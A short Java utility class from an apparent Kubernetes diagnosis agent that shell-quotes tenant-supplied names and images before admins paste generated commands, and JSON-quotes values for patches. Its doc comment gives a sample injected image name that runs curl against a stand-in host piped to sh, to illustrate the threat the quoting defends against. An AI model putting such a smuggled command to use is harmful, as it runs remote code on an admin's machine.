package io.pullwarden.agent.diagnose;

import com.fasterxml.jackson.core.io.JsonStringEncoder;
import java.util.regex.Pattern;

/**
 * Values put into the commands a diagnosis prints, which an admin pastes into a shell: names, hosts
 * and images come from tenants (a pod spec, a Secret's keys), so an image such as {@code r$(curl -s
 * evil.example|sh).io/app:1} must reach the shell as one word, not as a command.
 */
final class Shell {

  /** Characters that mean nothing to a POSIX shell, so a value of only these needs no quotes. */
  private static final Pattern PLAIN = Pattern.compile("[A-Za-z0-9._:/@=+-]+");

  private Shell() {}

  /**
   * {@code value} as one shell word: as it is when plainly safe, else in single quotes, each single
   * quote written {@code '\''}.
   */
  static String quote(String value) {
    if (PLAIN.matcher(value).matches()) {
      return value;
    }
    return "'" + value.replace("'", "'\\''") + "'";
  }

  /** {@code value} as a JSON string literal, quotes included, for a JSON patch. */
  static String json(String value) {
    return "\"" + new String(JsonStringEncoder.getInstance().quoteAsString(value)) + "\"";
  }
}
